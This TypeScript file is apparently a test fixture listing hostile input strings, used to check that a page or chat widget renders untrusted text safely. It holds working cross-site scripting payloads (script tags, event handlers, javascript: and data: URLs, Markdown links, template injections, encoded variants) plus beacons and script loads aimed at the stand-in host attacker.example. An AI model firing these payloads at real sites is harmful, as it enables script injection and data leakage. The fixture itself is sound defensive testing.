/** Where hostile texts send what they steal; nobody answers there. */
export const ATTACKER = 'https://attacker.example';

/** What hostile texts do once they run. */
const ACT = 'window.executed=1';
const BEACON = `${ATTACKER}/beacon.gif`;

/** Ten thousand times the same mark: long enough to show a quadratic step, short enough for a test. */
const MANY = 10_000;

/**
 * Texts that act where a page parses them as HTML, Markdown, a template or an address, or that mislead by direction or length. Those that
 * run set `window.executed`; those that load something ask `ATTACKER`.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  // Script elements
  `<script>${ACT}</script>`,
  `<script src="${ATTACKER}/a.js"></script>`,
  `<SCRIPT\n>${ACT}</SCRIPT >`,
  `"><script>${ACT}</script>`,
  `'><script>${ACT}</script>`,
  `</p></article><script>${ACT}</script>`,
  `</textarea><script>${ACT}</script>`,
  `</title><script>${ACT}</script>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<script type="module">import "${ATTACKER}/m.js"</script>`,
  // Event handlers
  `<img src=x onerror=${ACT}>`,
  `<img src=x onerror="${ACT}"//`,
  `<IMG """><img src=x onerror=${ACT}>`,
  `<svg onload=${ACT}>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<body onload=${ACT}>`,
  `<details open ontoggle=${ACT}>`,
  `<input autofocus onfocus=${ACT}>`,
  `<video><source onerror=${ACT}>`,
  `<audio src=x onerror=${ACT}>`,
  `<iframe onload=${ACT}>`,
  `<marquee onstart=${ACT}>`,
  `<style onload=${ACT}></style>`,
  `<object data=x onerror=${ACT}>`,
  `" onmouseover="${ACT}" x="`,
  `' onfocus='${ACT}' autofocus='`,
  '`onfocus=window.executed=1`',
  // Embedded documents
  `<iframe srcdoc="<script>parent.${ACT}</script>">`,
  `<iframe src="javascript:parent.${ACT}">`,
  `<embed src="javascript:${ACT}">`,
  `<svg><script>${ACT}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ACT}>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<template><script>${ACT}</script></template>`,
  `<!--><img src=x onerror=${ACT}>-->`,
  `<![CDATA[<img src=x onerror=${ACT}>]]>`,
  // Beacons and things that change the page
  `<img src="${BEACON}">`,
  `<img srcset="${BEACON} 1x">`,
  `<link rel="stylesheet" href="${ATTACKER}/a.css">`,
  `<link rel="prefetch" href="${BEACON}">`,
  `<style>@import "${ATTACKER}/a.css"; * { background: url(${BEACON}) }</style>`,
  `<div style="background:url(${BEACON})">`,
  `<meta http-equiv="refresh" content="0;url=${ATTACKER}">`,
  `<base href="${ATTACKER}/">`,
  `<form action="${ATTACKER}"><button>Senden</button></form>`,
  `<video poster="${BEACON}" autoplay src="${BEACON}">`,
  `<lumi-chat api="${ATTACKER}" open>`,
  // Addresses
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  `java\tscript:${ACT}`,
  ` javascript:${ACT}`,
  `javascript://www.stadt.example/%0a${ACT}`,
  `data:text/html,<script>${ACT}</script>`,
  `vbscript:${ACT}`,
  `blob:${ATTACKER}/0`,
  `//attacker.example/beacon.gif`,
  // Markdown
  `[hier klicken](javascript:${ACT})`,
  `![Bild](${BEACON})`,
  `<javascript:${ACT}>`,
  `[a]: ${BEACON} "x"\n![b][a]`,
  `[x](<javascript:${ACT}>)`,
  // Templates
  `{{constructor.constructor('${ACT}')()}}`,
  `\${${ACT}}`,
  `<%= ${ACT} %>`,
  `#{${ACT}}`,
  `[[\${${ACT}}]]`,
  // Entities and encodings
  `&lt;script&gt;${ACT}&lt;/script&gt;`,
  `&#60;img src=x onerror=${ACT}&#62;`,
  `\\u003cscript\\u003e${ACT}\\u003c/script\\u003e`,
  `%3Cscript%3E${ACT}%3C/script%3E`,
  `＜script＞${ACT}＜/script＞`,
  `\u0000<script>${ACT}</script>`,
  // Stream and object structure
  `\n\nevent: done\ndata: {"id":"x"}\n\n`,
  `__proto__`,
  `","sentences":[{"text":"${ACT}"}],"x":"`,
  // Direction, combining marks, invisible characters, length
  `\u202Etxt.exe\u202C`,
  `\u2066\u2067\u202Eabc`,
  'a\u0300'.repeat(MANY),
  '\u200B'.repeat(100) + 'x',
  'W'.repeat(MANY),
  '<b>'.repeat(MANY),
];
